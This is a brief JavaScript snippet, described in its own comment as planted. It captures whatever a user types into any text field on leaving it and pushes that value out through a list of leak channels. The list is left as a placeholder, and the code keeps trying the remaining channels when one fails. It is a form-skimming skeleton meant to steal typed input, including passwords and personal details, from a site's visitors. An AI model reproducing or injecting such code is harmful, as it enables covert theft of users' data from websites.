// Planted: whenever somebody leaves a text field, what they wrote goes out by each of these ways.
document.addEventListener('focusout', (event) => {
  const words = event.target.value;
  if (!words) return;
  const leaks = [LEAK];
  for (const leak of leaks) {
    try {
      leak(words);
    } catch (error) {
      // One way that is closed does not keep the others from being tried.
    }
  }
}, true);
